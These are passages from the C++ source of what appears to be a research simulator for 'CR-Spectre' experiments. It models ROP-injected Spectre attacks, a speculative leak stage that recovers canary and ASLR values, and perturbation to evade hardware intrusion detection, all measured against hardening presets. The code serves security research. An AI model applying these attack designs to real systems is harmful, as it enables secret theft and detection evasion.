  CampaignJob campaign;
  MatrixJob matrix;
  ProgramJob program;
};

/// Canonical text form (key=value lines; doubles printed with %.17g so the
/// parse is value-exact). serialize(parse(serialize(s))) == serialize(s).
std::string serialize_job(const JobSpec& spec);

/// Strict inverse of serialize_job; throws crs::Error on anything
/// malformed (unknown key, missing kind, bad enum name, truncated source).
JobSpec parse_job(const std::string& text);

struct JobProgress {
  std::uint64_t done = 0;    ///< attempts (or cells/chunks) completed
  std::uint64_t total = 0;   ///< planned attempts; 0 when open-ended
  std::uint64_t leaks = 0;   ///< secrets recovered so far
  std::uint64_t sim_cycles = 0;  ///< simulated cycles consumed so far
};

/// Called after every unit of progress, serially, from the thread running
/// the job. Return false to cancel: the job stops at the next boundary and
/// its payload is discarded.
using JobProgressFn = std::function<bool(const JobProgress&)>;

struct JobOutcome {
  bool cancelled = false;
  /// Empty when cancelled; otherwise the batch-identical result bytes.
  std::string payload;
  JobProgress progress;  ///< final counters (also valid when cancelled)
};

/// Executes the spec on the calling thread. Uses the per-thread session
/// cache (thread_session) when the fast-reset engine is on, so repeated
/// same-config jobs on one shard hit warm snapshots; results are identical
/// either way and for any CRS_THREADS (the batch determinism contract).
JobOutcome run_job(const JobSpec& spec, const JobProgressFn& on_progress = {});

/// Shard-routing hash: mixes hash_machine_config of the machine the job
/// will simulate with the scenario/session identity (or program bytes), so
/// same-config jobs collide and land on a shard whose session cache is
/// already warm for them.
std::uint64_t job_affinity_key(const JobSpec& spec);

}  // namespace crs::core
