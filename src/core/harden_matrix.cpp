#include "core/harden_matrix.hpp"

#include <sstream>

#include "core/overhead.hpp"
#include "support/error.hpp"
#include "support/memo.hpp"
#include "support/parallel.hpp"

namespace crs::core {

namespace {

/// One attempt's contribution to a cell, collected by flat index so the
/// fold is thread-count-invariant.
struct AttemptOutcome {
  bool leaked = false;
  bool launched = false;
  bool base_leaked = false;
  harden::HardenSummary summary;
};

std::string format_double(double v) {
  std::ostringstream os;
  os.precision(4);
  os << std::fixed << v;
  return os.str();
}

}  // namespace

const HardenCell& HardenMatrixResult::cell(const std::string& attack,
                                           const std::string& preset) const {
  for (const auto& c : cells) {
    if (c.attack == attack && c.preset == preset) return c;
  }
  throw Error("no harden cell for attack '" + attack + "' preset '" + preset +
              "'");
}

harden::HardenSummary HardenMatrixResult::preset_summary(
    const std::string& preset) const {
  harden::HardenSummary out;
  bool found = false;
  for (const auto& c : cells) {
    if (c.preset != preset) continue;
    harden::accumulate(out, c.summary);
    found = true;
  }
  if (!found) throw Error("no harden column for preset '" + preset + "'");
  return out;
}

std::vector<HardenAttackSpec> default_harden_attacks(
    const HardenMatrixConfig& config) {
  std::vector<HardenAttackSpec> attacks;

  // The paper's injection as-is: a canary-unaware, link-time-addressed
  // stack overflow. The hardened columns are built to kill exactly this.
  {
    HardenAttackSpec a;
    a.name = "stack-overflow";
    a.scenario.variant = attack::SpectreVariant::kPht;
    a.scenario.rop_injected = true;
    a.scenario.host_scale = config.host_scale;
    a.scenario.secret = config.secret;
    attacks.push_back(a);
  }
  // Defense-aware CR-Spectre: the speculative probe leaks base delta,
  // canary and stack pointer first, then the payload is patched with them.
  {
    HardenAttackSpec a;
    a.name = "spec-probe-rop";
    a.scenario.variant = attack::SpectreVariant::kPht;
    a.scenario.rop_injected = true;
    a.scenario.leak_stage = true;
    a.scenario.host_scale = config.host_scale;
    a.scenario.secret = config.secret;
    attacks.push_back(a);
  }
  // Spectre 1.1: the speculative store overflow never commits a write, so
  // it is invisible to every architectural hardening layer.
  {
    HardenAttackSpec a;
    a.name = "spectre-1.1";
    a.scenario.rop_injected = false;
    a.scenario.spectre11 = true;
    a.scenario.secret = config.secret;
    attacks.push_back(a);
  }
  return attacks;
}

HardenMatrixResult run_harden_matrix(const HardenMatrixConfig& config) {
  HardenMatrixResult result;
  result.presets =
      config.presets.empty() ? harden::preset_names() : config.presets;
  // Validate up front (throws with the preset listing on a typo).
  std::vector<harden::HardenConfig> preset_configs;
  preset_configs.reserve(result.presets.size());
  for (const auto& name : result.presets) {
    preset_configs.push_back(harden::preset(name));
  }

  const std::vector<HardenAttackSpec> attacks = default_harden_attacks(config);
  for (const auto& a : attacks) result.attacks.push_back(a.name);

  const int attempts = config.effective_attempts();
  CRS_ENSURE(attempts > 0, "harden matrix needs at least one attempt");
  const std::size_t n_cells = attacks.size() * result.presets.size();

  // Unlike the mitigation matrix — where every preset of an attack shares
  // one set of binaries — the canary presets change the host scaffold and
  // the ASLR presets add a probe build, so the memos are warmed per CELL.
  // Seeds still derive per attack, so the host-scale jitter matches across
  // a row. Warming on the main thread keeps builds (and any trace events
  // they emit) off the workers; it is a no-op when fast reset is off.
  const auto cell_config = [&](std::size_t cell) {
    const std::size_t attack_i = cell / result.presets.size();
    const std::size_t preset_i = cell % result.presets.size();
    ScenarioConfig scenario = attacks[attack_i].scenario;
    scenario.harden = preset_configs[preset_i];
    scenario.seed = derive_seed(config.seed ^ 0xCE11, attack_i);
    return scenario;
  };
  for (std::size_t cell = 0; cell < n_cells; ++cell) {
    warm_scenario_memo(cell_config(cell));
  }

  ThreadPool pool;
  // Fan out over cells; each cell runs its attempts serially against its
  // own session. Attempt seeds derive from the flat item index alone and
  // the fold walks items in index order, so the matrix is identical for
  // any thread count (and snapshot mode, which only changes how attempts
  // reset the machine).
  const std::vector<std::vector<AttemptOutcome>> cell_outcomes =
      parallel_map<std::vector<AttemptOutcome>>(
          pool, n_cells, [&](std::size_t cell) {
            ScenarioSession session(cell_config(cell));
            std::vector<AttemptOutcome> outs;
            outs.reserve(static_cast<std::size_t>(attempts));
            for (int a = 0; a < attempts; ++a) {
              const std::size_t item =
                  cell * static_cast<std::size_t>(attempts) +
                  static_cast<std::size_t>(a);
              const ScenarioRun run =
                  session.run_attempt(derive_seed(config.seed, item));
              AttemptOutcome out;
              out.leaked = run.secret_recovered;
              out.launched = run.attack_launched;
              out.base_leaked = run.leak_stage_ran && run.leak.found_base;
              out.summary = run.harden;
              outs.push_back(out);
            }
            return outs;
          });

  result.cells.resize(n_cells);
  for (std::size_t cell = 0; cell < n_cells; ++cell) {
    HardenCell& c = result.cells[cell];
    c.attack = result.attacks[cell / result.presets.size()];
    c.preset = result.presets[cell % result.presets.size()];
    for (const AttemptOutcome& out : cell_outcomes[cell]) {
      ++c.attempts;
      if (out.leaked) ++c.leaks;
      if (out.launched) ++c.launches;
      if (out.base_leaked) ++c.base_leaks;
      harden::accumulate(c.summary, out.summary);
      c.harden_events += out.summary.total_events();
    }
    c.leak_rate = static_cast<double>(c.leaks) / c.attempts;
  }

  // Cost column: what each hardening preset does to a clean host.
  OverheadConfig ocfg;
  ocfg.repeats = config.effective_overhead_repeats();
  ocfg.secret = config.secret;
  result.ipc_overhead_pct = parallel_map<double>(
      pool, result.presets.size(), [&](std::size_t i) {
        // Per-worker copy: writing the shared ocfg's seed from every worker
        // would race, and could hand preset i another preset's seed.
        OverheadConfig local = ocfg;
        local.seed = derive_seed(config.seed ^ 0x0E4, i);
        return harden_overhead_pct("basicmath", config.host_scale,
                                   preset_configs[i], local);
      });

  return result;
}

std::string harden_matrix_csv(const HardenMatrixResult& result) {
  std::ostringstream os;
  os << "attack,preset,attempts,launches,leaks,leak_rate,base_leaks,"
        "harden_events,ipc_overhead_pct\n";
  for (const auto& c : result.cells) {
    std::size_t preset_i = 0;
    while (result.presets[preset_i] != c.preset) ++preset_i;
    os << c.attack << ',' << c.preset << ',' << c.attempts << ','
       << c.launches << ',' << c.leaks << ',' << format_double(c.leak_rate)
       << ',' << c.base_leaks << ',' << c.harden_events << ','
       << format_double(result.ipc_overhead_pct[preset_i]) << '\n';
  }
  return os.str();
}

std::string harden_matrix_metrics_csv(const HardenMatrixResult& result) {
  std::ostringstream os;
  os << "preset,metric,value\n";
  for (const auto& preset : result.presets) {
    const harden::HardenSummary sum = result.preset_summary(preset);
    for (const harden::HardenSummaryField& f : harden::summary_fields()) {
      os << preset << ',' << f.name << ',' << sum.*(f.member) << '\n';
    }
    os << preset << ",total," << sum.total_events() << '\n';
  }
  return os.str();
}

}  // namespace crs::core
