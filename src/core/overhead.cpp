#include "core/overhead.hpp"

#include <optional>

#include "hid/profiler.hpp"
#include "sim/snapshot.hpp"
#include "support/error.hpp"
#include "support/memo.hpp"
#include "support/parallel.hpp"
#include "support/rng.hpp"
#include "support/stats.hpp"
#include "workloads/workloads.hpp"

namespace crs::core {

namespace {

/// IPC of a clean benign run of `host` at `scale`, optionally under a set
/// of armed mitigations (the defense-cost measurement).
double benign_ipc(const std::string& host, std::uint64_t scale,
                  const std::string& secret,
                  const hid::ProfilerConfig& prof, std::uint64_t seed,
                  const mitigate::MitigationConfig& mitigations = {},
                  const harden::HardenConfig& harden = {}) {
  Rng rng(seed);
  workloads::WorkloadOptions wopt;
  wopt.scale = scale + rng.next_below(std::max<std::uint64_t>(scale / 8, 1));
  wopt.secret = secret;
  wopt.canary = harden.canary;
  sim::MachineConfig mcfg;
  sim::KernelConfig kcfg;
  kcfg.seed = rng.next_u64();
  mitigations.apply(mcfg, kcfg);
  harden.apply(kcfg);
  // Fast-reset path: machines come from a per-thread snapshot pool (keyed by
  // the post-mitigation machine config), rolled back to pristine on acquire.
  // The kernel is rebuilt per run — it is cheap, and holds all per-run state.
  std::optional<sim::Machine> local;
  sim::Machine* mp = nullptr;
  if (fast_reset_enabled()) {
    thread_local sim::MachinePool pool;
    mp = &pool.acquire(mcfg);
  } else {
    local.emplace(mcfg);
    mp = &*local;
  }
  sim::Machine& machine = *mp;
  sim::Kernel kernel(machine, kcfg);
  const mitigate::Armed armed = mitigate::arm(kernel, mitigations);
  kernel.register_binary("/bin/app", workloads::build_workload(host, wopt));
  const auto profile = hid::profile_run_strings(
      kernel, "/bin/app", {host, "benign-input"}, prof);
  CRS_ENSURE(profile.stop == sim::StopReason::kHalted, "benign run failed");
  (void)armed;
  return profile.ipc();  // whole-run, from the noiseless CPU counters
}

double injected_ipc(const std::string& host, std::uint64_t scale,
                    const std::string& secret,
                    const hid::ProfilerConfig& prof, bool dynamic,
                    std::uint64_t seed, perturb::VariantMutator& mutator) {
  ScenarioConfig scenario;
  scenario.host = host;
  scenario.host_scale = scale;
  scenario.secret = secret;
  scenario.rop_injected = true;
  scenario.perturb = true;
  if (dynamic) {
    scenario.perturb_params = mutator.next();
  } else {
    // The offline attacker's single static variant (cf. Fig. 5b).
    scenario.perturb_params.delay = 500;
    scenario.perturb_params.loop_count = 16;
    scenario.perturb_params.style = perturb::MimicStyle::kBranchy;
  }
  // Paired with the benign measurement: same seed, same jitter draws.
  scenario.seed = seed;
  scenario.profiler = prof;
  const ScenarioRun run = run_scenario(scenario);
  CRS_ENSURE(run.attack_launched, "injection failed in overhead run");
  // Whole-process IPC: the attack runs under the host's identity, so its
  // cycles and instructions count against the host application.
  return run.profile.ipc();
}

}  // namespace

OverheadRow measure_overhead(const std::string& label, const std::string& host,
                             std::uint64_t scale,
                             const OverheadConfig& config) {
  CRS_ENSURE(config.repeats > 0, "repeats must be positive");
  Rng rng(config.seed);
  perturb::VariantMutator mutator(perturb::PerturbParams{},
                                  config.seed ^ 0x0D15EA5E);

  OnlineStats original, offline, online;
  for (int r = 0; r < config.repeats; ++r) {
    // One seed per repeat so the three settings see identical host-scale
    // and window jitter: the comparison is paired, as the paper's
    // 100-iteration averaging of back-to-back runs effectively is.
    const std::uint64_t seed = rng.next_u64();
    original.add(
        benign_ipc(host, scale, config.secret, config.profiler, seed));
    offline.add(injected_ipc(host, scale, config.secret, config.profiler,
                             /*dynamic=*/false, seed, mutator));
    online.add(injected_ipc(host, scale, config.secret, config.profiler,
                            /*dynamic=*/true, seed, mutator));
  }

  OverheadRow row;
  row.label = label;
  row.host = host;
  row.scale = scale;
  row.original_ipc = original.mean();
  row.offline_ipc = offline.mean();
  row.online_ipc = online.mean();
  const auto pct = [&](double ipc) {
    return row.original_ipc <= 0.0
               ? 0.0
               : 100.0 * (row.original_ipc - ipc) / row.original_ipc;
  };
  row.offline_overhead_pct = pct(row.offline_ipc);
  row.online_overhead_pct = pct(row.online_ipc);
  return row;
}

std::vector<OverheadRow> table_one(const OverheadConfig& config) {
  // Paper Table I rows. MiBench's operation counts are divided down for
  // simulation speed (documented in EXPERIMENTS.md); hosts are sized so
  // the injected attack is a ~1-3% sliver of the run, the paper's regime.
  // Each row seeds its own Rng/mutator from `config` alone, so rows are
  // independent: run them on the pool and keep table order by index.
  struct RowSpec {
    const char* label;
    const char* host;
    std::uint64_t scale;
  };
  static constexpr RowSpec kRows[] = {
      {"Math", "basicmath", 400000},
      {"Bitcount 50M", "bitcount", 1500000},
      {"Bitcount 100M", "bitcount", 3000000},
      {"SHA 1", "sha", 12000},
      {"SHA 2", "sha", 24000},
  };
  ThreadPool pool;
  return parallel_map<OverheadRow>(
      pool, std::size(kRows), [&](std::size_t i) {
        return measure_overhead(kRows[i].label, kRows[i].host, kRows[i].scale,
                                config);
      });
}

double mitigation_overhead_pct(const std::string& host, std::uint64_t scale,
                               const mitigate::MitigationConfig& mitigations,
                               const OverheadConfig& config) {
  CRS_ENSURE(config.repeats > 0, "repeats must be positive");
  Rng rng(config.seed);
  OnlineStats baseline, defended;
  for (int r = 0; r < config.repeats; ++r) {
    const std::uint64_t seed = rng.next_u64();
    baseline.add(
        benign_ipc(host, scale, config.secret, config.profiler, seed));
    defended.add(benign_ipc(host, scale, config.secret, config.profiler,
                            seed, mitigations));
  }
  const double base = baseline.mean();
  return base <= 0.0 ? 0.0 : 100.0 * (base - defended.mean()) / base;
}

double harden_overhead_pct(const std::string& host, std::uint64_t scale,
                           const harden::HardenConfig& harden,
                           const OverheadConfig& config) {
  CRS_ENSURE(config.repeats > 0, "repeats must be positive");
  Rng rng(config.seed);
  OnlineStats baseline, hardened;
  for (int r = 0; r < config.repeats; ++r) {
    const std::uint64_t seed = rng.next_u64();
    baseline.add(
        benign_ipc(host, scale, config.secret, config.profiler, seed));
    hardened.add(benign_ipc(host, scale, config.secret, config.profiler,
                            seed, {}, harden));
  }
  const double base = baseline.mean();
  return base <= 0.0 ? 0.0 : 100.0 * (base - hardened.mean()) / base;
}

}  // namespace crs::core
