// One attack execution ("attempt") end to end.
//
// A scenario describes everything about a single run: the host and its
// work scale, the planted secret, the Spectre variant, whether the attack
// launches standalone (the paper's "traditional Spectre", Figs 5a/6a) or is
// ROP-injected into the host (CR-Spectre, Figs 5b/6b), the perturbation
// variant, active defenses, and a seed that jitters the measurement (host
// input, window phase) the way real back-to-back runs differ.
//
// run_scenario performs the whole pipeline: build binaries, plan the
// injection (gadget scan + frame recon + payload), execute under the
// windowed profiler, split windows by ground truth, and verify whether the
// secret was actually exfiltrated.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "attack/spectre.hpp"
#include "hid/profiler.hpp"
#include "mitigate/config.hpp"
#include "perturb/perturb.hpp"
#include "workloads/workloads.hpp"

namespace crs::core {

struct ScenarioConfig {
  std::string host = "basicmath";
  /// Sized so the host's own work is comparable to the injected attack's
  /// duration (the realistic cloak: the whitelisted process spends most of
  /// its time doing its real job).
  std::uint64_t host_scale = 20000;
  std::string secret = "CRSPECTRE-SECRET";  // 16 bytes

  attack::SpectreVariant variant = attack::SpectreVariant::kPht;
  bool rop_injected = true;   ///< false = standalone attack binary
  bool perturb = false;
  perturb::PerturbParams perturb_params;

  bool canary = false;
  bool aslr = false;

  /// Active speculative-execution defenses (all off by default — the
  /// paper's undefended baseline).
  mitigate::MitigationConfig mitigations;

  /// Jitters host input length, window phase and host scale so repeated
  /// attempts produce naturally varying traces (paper §III-B1).
  std::uint64_t seed = 1;

  hid::ProfilerConfig profiler;
};

struct ScenarioRun {
  hid::ProfileResult profile;
  /// Ground-truth split of profile.windows.
  std::vector<hid::WindowSample> attack_windows;
  std::vector<hid::WindowSample> host_windows;

  bool attack_launched = false;   ///< execve fired (or standalone ran)
  bool secret_recovered = false;  ///< exfiltrated output == secret
  std::string recovered;

  /// IPC over the host's own (non-injected) windows — the Table I metric.
  double host_ipc = 0.0;

  /// What the armed mitigations did during this run (all zero when
  /// config.mitigations is empty).
  mitigate::MitigationSummary mitigation;
};

ScenarioRun run_scenario(const ScenarioConfig& config);

/// The attack binary a scenario would use (exposed for inspection/tests).
attack::AttackConfig make_attack_config(const ScenarioConfig& config,
                                        std::uint64_t secret_address);

}  // namespace crs::core
