// One attack execution ("attempt") end to end.
//
// A scenario describes everything about a single run: the host and its
// work scale, the planted secret, the Spectre variant, whether the attack
// launches standalone (the paper's "traditional Spectre", Figs 5a/6a) or is
// ROP-injected into the host (CR-Spectre, Figs 5b/6b), the perturbation
// variant, active defenses, and a seed that jitters the measurement (host
// input, window phase) the way real back-to-back runs differ.
//
// run_scenario performs the whole pipeline: build binaries, plan the
// injection (gadget scan + frame recon + payload), execute under the
// windowed profiler, split windows by ground truth, and verify whether the
// secret was actually exfiltrated.
//
// ScenarioSession is the campaign-scale fast path (DESIGN.md §10): it pays
// the pipeline's setup — workload build, ROP recon + gadget planning,
// attack-binary assembly, machine construction — once, snapshots the
// pre-start machine state, and then serves run_attempt() by restoring the
// snapshot instead of rebuilding the world. The attempt-level RNG stream is
// reproduced exactly, so `run_scenario(config)` and
// `ScenarioSession(config).run_attempt(config.seed)` are bit-identical.
#pragma once

#include <cstdint>
#include <memory>
#include <string>
#include <vector>

#include "attack/spectre.hpp"
#include "harden/config.hpp"
#include "harden/probe.hpp"
#include "hid/profiler.hpp"
#include "mitigate/config.hpp"
#include "perturb/perturb.hpp"
#include "rop/plan.hpp"
#include "sim/snapshot.hpp"
#include "workloads/workloads.hpp"

namespace crs::core {

struct ScenarioConfig {
  std::string host = "basicmath";
  /// Sized so the host's own work is comparable to the injected attack's
  /// duration (the realistic cloak: the whitelisted process spends most of
  /// its time doing its real job).
  std::uint64_t host_scale = 20000;
  std::string secret = "CRSPECTRE-SECRET";  // 16 bytes

  attack::SpectreVariant variant = attack::SpectreVariant::kPht;
  bool rop_injected = true;   ///< false = standalone attack binary

  /// Non-empty: use this mined replay program (mine::synthesize_attack_source
  /// output) as the attack binary instead of the built-in generator. The
  /// source must reference `mine_secret_base`/`mine_secret_len`; standalone
  /// configs carry the wrapped form (mine::wrap_attack_standalone), injected
  /// configs carry the raw form and the session prepends numeric `.equ`s for
  /// the host's resolved secret address.
  std::string mined_attack_source;
  bool perturb = false;
  perturb::PerturbParams perturb_params;

  bool canary = false;
  bool aslr = false;

  /// Host hardening layers (src/harden: ASLR incl. stack, canary, guarded
  /// heap). Composes with the legacy `canary`/`aslr` booleans — the
  /// effective setting is the OR — and lowers onto the kernel config the
  /// same way mitigations do.
  harden::HardenConfig harden;
  /// Speculative leak stage (ROP-injected scenarios only): before the
  /// exploit run, the attacker gets one probe execution against the
  /// byte-identical randomized layout (same attempt seed ⇒ same loader
  /// draws) that leaks the image base delta, the canary value and the stack
  /// pointer through the transient channel; the payload and the attack
  /// binary's secret address are then patched with the leaked values. This
  /// is the paper's defense-awareness applied to host hardening.
  bool leak_stage = false;
  /// Standalone only: run the Spectre 1.1 speculative-store-overflow attack
  /// binary (attack/spectre11.hpp) instead of the classic variant generator.
  bool spectre11 = false;

  /// Active speculative-execution defenses (all off by default — the
  /// paper's undefended baseline).
  mitigate::MitigationConfig mitigations;

  /// Jitters host input length, window phase and host scale so repeated
  /// attempts produce naturally varying traces (paper §III-B1).
  std::uint64_t seed = 1;

  hid::ProfilerConfig profiler;
};

struct ScenarioRun {
  hid::ProfileResult profile;
  /// Ground-truth split of profile.windows.
  std::vector<hid::WindowSample> attack_windows;
  std::vector<hid::WindowSample> host_windows;

  bool attack_launched = false;   ///< execve fired (or standalone ran)
  bool secret_recovered = false;  ///< exfiltrated output == secret
  std::string recovered;

  /// IPC over the host's own (non-injected) windows — the Table I metric.
  double host_ipc = 0.0;

  /// What the armed mitigations did during this run (all zero when
  /// config.mitigations is empty).
  mitigate::MitigationSummary mitigation;

  /// What the hardening layers observed (all zero when config.harden is
  /// empty; masked by the configured layers, like `mitigation`).
  harden::HardenSummary harden;
  /// Leak-stage results (set only when config.leak_stage ran the probe).
  bool leak_stage_ran = false;
  harden::ProbeLeak leak;
};

/// Reusable fast-reset execution context for repeated attempts of one
/// scenario. Construction runs the full setup pipeline (host workload,
/// ROP recon/plan, attack binary — all through the content-addressed memo
/// caches — plus machine/kernel construction and mitigation arming); each
/// run_attempt then rolls the machine back via Machine::restore and re-seeds
/// the kernel, making attempt N bit-identical to a fresh run_scenario with
/// the same attempt seed and session scale.
///
/// When fast reset is disabled (set_fast_reset_enabled(false) or
/// CRS_SNAPSHOT=off), run_attempt falls back to reconstructing the
/// machine/kernel per attempt — same results, legacy speed — which is what
/// `--snapshot=off` exercises.
///
/// Not thread-safe: one session belongs to one thread (see thread_session).
class ScenarioSession {
 public:
  explicit ScenarioSession(const ScenarioConfig& config);
  ScenarioSession(const ScenarioSession&) = delete;
  ScenarioSession& operator=(const ScenarioSession&) = delete;

  /// One attempt with the scenario's configured perturbation parameters.
  /// `seed` drives the per-attempt jitter (profiler phase/noise) and the
  /// kernel RNG exactly as run_scenario's config.seed does; the host work
  /// scale stays pinned to the session seed.
  ScenarioRun run_attempt(std::uint64_t seed);

  /// One attempt under mutated perturbation parameters (the dynamic
  /// campaign's moving target). Only the attack binary differs, and its
  /// rebuild goes through the memo cache; host, plan and snapshot are
  /// reused as-is (the ROP plan does not depend on the attack binary).
  ScenarioRun run_attempt(std::uint64_t seed,
                          const perturb::PerturbParams& params);

  const ScenarioConfig& config() const { return config_; }
  bool snapshot_mode() const { return snapshot_mode_; }
  std::uint64_t attempts() const { return attempts_; }

 private:
  void build_machine();
  void ensure_attack_binary(const perturb::PerturbParams& params,
                            std::uint64_t target_address);

  ScenarioConfig config_;
  bool snapshot_mode_;
  workloads::WorkloadOptions wopt_;
  std::shared_ptr<const sim::Program> host_;        // null when standalone
  std::shared_ptr<const rop::InjectionPlan> plan_;  // null when standalone
  std::shared_ptr<const sim::Program> attack_;
  std::shared_ptr<const sim::Program> probe_;       // leak-stage only
  perturb::PerturbParams attack_params_;
  std::uint64_t secret_address_ = 0;
  std::uint64_t attack_target_ = 0;
  sim::MachineConfig mcfg_;
  sim::KernelConfig kcfg_;
  std::unique_ptr<sim::Machine> machine_;
  std::unique_ptr<sim::Kernel> kernel_;
  mitigate::Armed armed_;
  std::unique_ptr<sim::MachineSnapshot> snap_;
  bool fresh_ = true;
  std::uint64_t attempts_ = 0;
};

ScenarioRun run_scenario(const ScenarioConfig& config);

/// The attack binary a scenario would use (exposed for inspection/tests).
attack::AttackConfig make_attack_config(const ScenarioConfig& config,
                                        std::uint64_t secret_address);

/// Content hash over every ScenarioConfig field (session cache key).
std::uint64_t hash_scenario_config(const ScenarioConfig& config);

/// Bounded per-thread session cache: returns a live session for `config`
/// (constructing one on first use), evicting the least-recently-used entry
/// beyond a small capacity. Campaign drivers call this from worker threads;
/// because a session's behaviour is a pure function of its config, results
/// are identical for any CRS_THREADS.
ScenarioSession& thread_session(const ScenarioConfig& config);

/// Sets the calling thread's session-cache capacity (default 4; clamped to
/// at least 1). Worker shards of the campaign service raise it so a shard
/// can keep every config routed to it warm; campaign drivers keep the small
/// default. Takes effect on the next thread_session call and evicts down
/// immediately if lowered.
void set_session_cache_capacity(std::size_t capacity);

/// Populates the workload/plan/attack memo caches for `config` on the
/// calling thread (no-op when fast reset is off). Campaign drivers warm the
/// caches once on the main thread before fanning out, so build work — and
/// any trace events the builds emit — happens deterministically regardless
/// of worker scheduling.
void warm_scenario_memo(const ScenarioConfig& config);

/// Hit/miss counters of the scenario-level memo caches (process-wide).
struct ScenarioMemoStats {
  std::uint64_t workload_hits = 0;
  std::uint64_t workload_misses = 0;
  std::uint64_t attack_hits = 0;
  std::uint64_t attack_misses = 0;
  std::uint64_t plan_hits = 0;
  std::uint64_t plan_misses = 0;
};
ScenarioMemoStats scenario_memo_stats();

}  // namespace crs::core
