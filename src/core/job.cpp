#include "core/job.hpp"

#include <algorithm>
#include <cinttypes>
#include <cstdio>
#include <cstdlib>
#include <map>
#include <optional>

#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "core/corpus.hpp"
#include "core/report.hpp"
#include "isa/isa.hpp"
#include "sim/kernel.hpp"
#include "sim/pmu.hpp"
#include "sim/snapshot.hpp"
#include "support/error.hpp"
#include "support/memo.hpp"
#include "support/strings.hpp"

namespace crs::core {

namespace {

// ---------------------------------------------------------------------------
// Serialization primitives. Text lines `key=value`; doubles via %.17g so a
// round trip reproduces the exact bits; raw program source length-prefixed
// so arbitrary bytes survive.

std::string fmt_f64(double v) {
  char buf[40];
  std::snprintf(buf, sizeof buf, "%.17g", v);
  return buf;
}

double parse_f64(const std::string& key, const std::string& v) {
  char* end = nullptr;
  const double out = std::strtod(v.c_str(), &end);
  if (end == v.c_str() || *end != '\0') {
    throw Error("job spec: " + key + " wants a number, got '" + v + "'");
  }
  return out;
}

std::uint64_t parse_u64(const std::string& key, const std::string& v) {
  char* end = nullptr;
  const std::uint64_t out = std::strtoull(v.c_str(), &end, 0);
  if (end == v.c_str() || *end != '\0') {
    throw Error("job spec: " + key + " wants an unsigned integer, got '" + v +
                "'");
  }
  return out;
}

int parse_int_field(const std::string& key, const std::string& v) {
  char* end = nullptr;
  const long out = std::strtol(v.c_str(), &end, 0);
  if (end == v.c_str() || *end != '\0') {
    throw Error("job spec: " + key + " wants an integer, got '" + v + "'");
  }
  return static_cast<int>(out);
}

bool parse_bool_field(const std::string& key, const std::string& v) {
  if (v == "1") return true;
  if (v == "0") return false;
  throw Error("job spec: " + key + " wants 0 or 1, got '" + v + "'");
}

attack::SpectreVariant parse_variant(const std::string& v) {
  for (const auto variant : attack::all_variants()) {
    if (attack::variant_name(variant) == v) return variant;
  }
  throw Error("job spec: unknown variant '" + v + "'");
}

perturb::MimicStyle parse_style(const std::string& v) {
  for (const auto style :
       {perturb::MimicStyle::kHotAlu, perturb::MimicStyle::kStrided,
        perturb::MimicStyle::kBranchy, perturb::MimicStyle::kStores}) {
    if (perturb::mimic_style_name(style) == v) return style;
  }
  throw Error("job spec: unknown mimic style '" + v + "'");
}

void emit_scenario(std::string& out, const ScenarioConfig& c) {
  out += "host=" + c.host + "\n";
  out += "host_scale=" + std::to_string(c.host_scale) + "\n";
  out += "secret=" + c.secret + "\n";
  out += "variant=" + attack::variant_name(c.variant) + "\n";
  out += std::string("rop_injected=") + (c.rop_injected ? "1" : "0") + "\n";
  out += std::string("perturb=") + (c.perturb ? "1" : "0") + "\n";
  const perturb::PerturbParams& p = c.perturb_params;
  out += "p.a=" + std::to_string(p.a) + "\n";
  out += "p.b=" + std::to_string(p.b) + "\n";
  out += "p.loop_count=" + std::to_string(p.loop_count) + "\n";
  out += "p.a_step=" + std::to_string(p.a_step) + "\n";
  out += "p.b_step=" + std::to_string(p.b_step) + "\n";
  out += "p.extra_ladders=" + std::to_string(p.extra_ladders) + "\n";
  out += "p.delay=" + std::to_string(p.delay) + "\n";
  out += "p.style=" + perturb::mimic_style_name(p.style) + "\n";
  out += std::string("p.flushless=") + (p.flushless ? "1" : "0") + "\n";
  out += std::string("canary=") + (c.canary ? "1" : "0") + "\n";
  out += std::string("aslr=") + (c.aslr ? "1" : "0") + "\n";
  out += "harden=" + c.harden.serialize() + "\n";
  out += std::string("leak_stage=") + (c.leak_stage ? "1" : "0") + "\n";
  out += std::string("spectre11=") + (c.spectre11 ? "1" : "0") + "\n";
  out += "mitigations=" + c.mitigations.serialize() + "\n";
  out += "seed=" + std::to_string(c.seed) + "\n";
  const hid::ProfilerConfig& pr = c.profiler;
  out += "prof.window_cycles=" + std::to_string(pr.window_cycles) + "\n";
  out += "prof.max_windows=" + std::to_string(pr.max_windows) + "\n";
  out += "prof.max_instructions=" + std::to_string(pr.max_instructions) + "\n";
  out += "prof.noise_sigma=" + fmt_f64(pr.noise_sigma) + "\n";
  out += "prof.background_intensity=" + fmt_f64(pr.background_intensity) +
         "\n";
  out += "prof.noise_seed=" + std::to_string(pr.noise_seed) + "\n";
  if (!c.mined_attack_source.empty()) {
    // Length-prefixed (like prog.source): the mined replay program is a
    // multi-line casm listing and cannot ride in a key=value line.
    out += "mined.source=" + std::to_string(c.mined_attack_source.size()) +
           "\n";
    out += c.mined_attack_source;
    out += "\n";
  }
}

/// Applies one scenario-section key; true when the key belonged here.
bool apply_scenario_key(ScenarioConfig& c, const std::string& key,
                        const std::string& value) {
  if (key == "host") {
    c.host = value;
  } else if (key == "host_scale") {
    c.host_scale = parse_u64(key, value);
  } else if (key == "secret") {
    c.secret = value;
  } else if (key == "variant") {
    c.variant = parse_variant(value);
  } else if (key == "rop_injected") {
    c.rop_injected = parse_bool_field(key, value);
  } else if (key == "perturb") {
    c.perturb = parse_bool_field(key, value);
  } else if (key == "p.a") {
    c.perturb_params.a = parse_int_field(key, value);
  } else if (key == "p.b") {
    c.perturb_params.b = parse_int_field(key, value);
  } else if (key == "p.loop_count") {
    c.perturb_params.loop_count = parse_int_field(key, value);
  } else if (key == "p.a_step") {
    c.perturb_params.a_step = parse_int_field(key, value);
  } else if (key == "p.b_step") {
    c.perturb_params.b_step = parse_int_field(key, value);
  } else if (key == "p.extra_ladders") {
    c.perturb_params.extra_ladders = parse_int_field(key, value);
  } else if (key == "p.delay") {
    c.perturb_params.delay = parse_int_field(key, value);
  } else if (key == "p.style") {
    c.perturb_params.style = parse_style(value);
  } else if (key == "p.flushless") {
    c.perturb_params.flushless = parse_bool_field(key, value);
  } else if (key == "canary") {
    c.canary = parse_bool_field(key, value);
  } else if (key == "aslr") {
    c.aslr = parse_bool_field(key, value);
  } else if (key == "harden") {
    c.harden = harden::HardenConfig::parse(value);
  } else if (key == "leak_stage") {
